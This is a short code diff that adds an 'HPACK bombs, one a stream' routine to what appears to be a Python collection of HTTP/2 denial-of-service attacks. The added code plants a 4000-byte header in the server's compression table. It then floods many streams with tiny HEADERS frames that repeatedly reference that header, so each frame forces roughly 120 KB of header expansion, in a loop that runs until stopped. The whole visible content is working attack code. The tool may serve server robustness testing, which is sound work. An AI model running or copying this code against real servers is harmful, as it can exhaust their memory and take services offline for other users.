@@ -258,6 +258,24 @@ def cookie_bomb(t):
     t.again(once)
 
 
+@attack("HPACK bombs, one a stream")
+def cookie_bombs(t):
+    """A hundred bytes of each stream stand for 120 KB that are refused, and are no abuse by their number."""
+    def once():
+        s = t.h2()
+        indexed_host = b"\x41" + text(HOST.encode())
+        crumb = b"\x60" + text(b"x" * 4000)
+        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x82\x87\x84" + indexed_host + crumb))
+        block = b"\x82\x87\x84\xbf" + b"\xbe" * 29
+        for first in range(3, 1 << 30, 100):
+            if not t.is_on():
+                return
+            s.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block)
+                               for n in range(first, first + 100, 2)))
+            soak(s)
+    t.again(once)
+
+
 @attack("CONTINUATION flood")
 def continuations(t):
     def once():
